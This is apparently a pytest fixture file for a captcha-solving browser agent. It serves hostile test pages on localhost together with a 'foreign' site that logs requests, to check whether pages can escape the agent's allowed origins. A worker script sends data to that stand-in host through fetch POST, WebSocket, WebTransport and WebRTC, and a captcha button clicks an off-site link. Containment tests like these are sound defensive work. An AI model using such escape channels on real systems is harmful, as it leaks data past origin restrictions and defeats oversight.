"""Serves the hostile pages, each with a captcha, and the foreign site that they lead to."""

from __future__ import annotations

import io
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pytest

from capslice.agent.settings import Target
from capslice.training.pictures import EllipseCaptcha
from tests.agent.conftest import Answer, Site

Start = Callable[..., Site]
Attack = Callable[[str], tuple[Target, Site]]

PAGES = Path(__file__).with_name("pages")
ANSWER = "526328"
# The button follows the link #go if there is one that leaves the site.
CAPTCHA = """
<p><label for="input">Type the characters of the captcha</label>
<img id="captcha" alt="captcha" src="/p"> <button id="submit">Send the answer</button>
<script>
  document.getElementById("submit").onclick = () => {
    const go = document.getElementById("go")
    const right = document.getElementById("input").value === "526328"
    if (go?.href.startsWith("{there}")) go.click()
    else document.body.insertAdjacentHTML("beforeend", right
      ? "<p id=success class=success>Thank you, the answer is right"
      : "<p id=failure class=error>Wrong answer, try again")
  }
</script>"""
WORKER = """
if (self.RTCPeerConnection) fetch("{there}peer", {mode: "no-cors"});
fetch("{there}x?" + self.constructor.name, {method: "POST", mode: "no-cors", body: "x"});
new WebSocket("{there}x".replace("http", "ws"));
new WebTransport("{there}x".replace("http", "https"));"""
DATAGRAM = "datagram"  # in the log of the foreign site
SELECTORS = {"input": "#input", "refresh": ""}


@pytest.fixture(scope="session")
def png(captcha: EllipseCaptcha) -> bytes:
    """A captcha whose text is ANSWER."""
    content = io.BytesIO()
    captcha.draw(ANSWER, np.random.default_rng(1)).save(content, "PNG")
    return content.getvalue()


@contextmanager
def datagrams(there: Site) -> Iterator[None]:
    """Log what arrives by UDP at the port of the site."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as arriving:
        arriving.bind(("127.0.0.1", urlsplit(there.url).port))

        def log() -> None:
            while arriving.recv(4096):
                there.log.append(DATAGRAM)

        thread = threading.Thread(target=log)
        thread.start()
        try:
            yield
        finally:
            arriving.sendto(b"", arriving.getsockname())
            thread.join()


@pytest.fixture
def serve_hostile(site: Start, png: bytes) -> Iterator[Callable[[str], tuple[Target, Site]]]:
    """Serve any HTML with a captcha; return its target, and the foreign site for `{there}`."""
    stack = ExitStack()

    def serve(html: str) -> tuple[Target, Site]:
        there = site({"/x": Answer(b'<input id="input">')})
        stack.enter_context(datagrams(there))
        content, worker = (
            text.replace("{there}", there.url).encode() for text in (html + CAPTCHA, WORKER)
        )
        here = site(
            {
                "/": Answer(content),
                "/p": Answer(png, kind="image/png"),
                "/worker.js": Answer(worker, kind="text/javascript"),
            }
        )
        origins = (here.url.rstrip("/"),)
        target = {"url": here.url, "allowed_origins": origins, "selectors": SELECTORS}
        return Target.model_validate(target), there

    with stack:
        yield serve


@pytest.fixture
def attack(serve_hostile: Callable[[str], tuple[Target, Site]]) -> Attack:
    """Serve one of the pages in PAGES."""
    return lambda name: serve_hostile((PAGES / f"{name}.html").read_text("utf-8"))
